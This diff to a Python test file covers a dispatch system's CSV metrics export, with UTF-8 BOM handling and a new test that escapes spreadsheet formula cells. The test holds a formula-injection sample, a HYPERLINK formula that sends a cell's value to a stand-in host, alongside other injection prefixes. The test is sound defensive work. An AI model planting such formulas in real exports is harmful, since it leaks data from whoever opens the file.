@@ -128,16 +128,28 @@ def test_csv_export(world):
     drive_hand_fixture(world)
     response = metrics(world, "response-times", group_by="grid", format="csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
-    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert response.get_data().startswith("\ufeff".encode())  # Excel reads the names as UTF-8
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
     assert rows[0] == ["group", "name", "bucket", "phase", "count", "mean_s", "p50_s", "p90_s"]
     assert rows[1] == [G1, "中牌楼社区第1网格", "", "acknowledge", "5", "240.0", "180", "600"]
     assert len(rows) == 5
     response = metrics(world, "rates", group_by="grid", format="csv", min_sample=6)
-    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
     assert rows == [{"group": G1, "name": "中牌楼社区第1网格", "bucket": "", "count": "5", "hidden": "True",
                      "closure_rate": "", "rework_rate": "", "satisfaction": "", "first_time_fix": "",
                      "on_time_acknowledge": "", "on_time_arrive": "", "on_time_resolve": "",
                      "on_time_verify": ""}]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text():
+    """Found by a browser audit: a name an admin typed as =HYPERLINK(...) would run in Excel."""
+    from dispatch.metrics.service import to_csv
+
+    rows = list(csv.reader(io.StringIO(to_csv(["name", "n"], [
+        ['=HYPERLINK("http://x.example/?"&A1,"click")', 1], ["+1", -2], ["@SUM(A1)", None],
+        ["-3", 0], ["\tTab", 4], ["管道班", 5]]).removeprefix("\ufeff"))))
+    assert rows[1:] == [["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "1"], ["'+1", "-2"],
+                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"]]
 
 
 @pytest.mark.parametrize("params, field", [
